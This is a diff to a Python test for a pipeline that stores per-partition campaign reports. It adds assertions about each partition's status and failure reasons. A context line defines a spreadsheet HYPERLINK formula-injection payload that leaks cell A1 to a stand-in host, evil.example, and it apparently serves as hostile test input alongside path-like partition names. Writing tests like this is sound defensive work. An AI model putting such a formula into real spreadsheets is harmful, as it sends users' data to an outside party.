@@ -35,6 +35,7 @@ from pipelines.settings import get_settings
 from resources.report_store import ReportStoreResource
 from resources.warehouse import WarehouseResource, with_database
 from tests.conftest import query
+from tests.test_reports import assert_each_partition_has_its_own_report, report_partitions
 from tests.test_reports import smtp  # noqa: F401 (the loopback SMTP server fixture)
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")'
@@ -216,7 +217,17 @@ def test_one_run_of_hostile_partitions_stores_every_good_report(hostile, store, 
         assert Path(file_url).resolve().is_relative_to(root) and Path(file_url).is_file()
     assert not (root.parent / "x").exists() and not list(root.parent.parent.glob("x*"))
 
-    a = materialized[keys[0]]["files"].value
+    # Each partition of the run is recorded on its own: the three made with their own files, sizes,
+    # checksums, period and freshness; the gone one skipped and the path-like one failed, with why.
+    made, observed = report_partitions(instance, campaign_report.key, {run.run_id})
+    assert set(made) == set(materialized)
+    assert_each_partition_has_its_own_report(url, made)
+    assert {k: m["status"].value for k, m in observed.items()} == {keys[2]: "skipped_subject_gone", keys[3]: "failed"}
+    assert "is not in marts.mart_campaign_roi" in observed[keys[2]]["reason"].value
+    assert "two valid identifiers" in observed[keys[3]]["reason"].value
+    assert keys[2] not in instance.get_materialized_partitions(campaign_report.key)
+
+    a = {r.data["file"]: r.data["url"] for r in materialized[keys[0]]["files"].value.records}
     from openpyxl import load_workbook
 
     book = load_workbook(a["xlsx"])
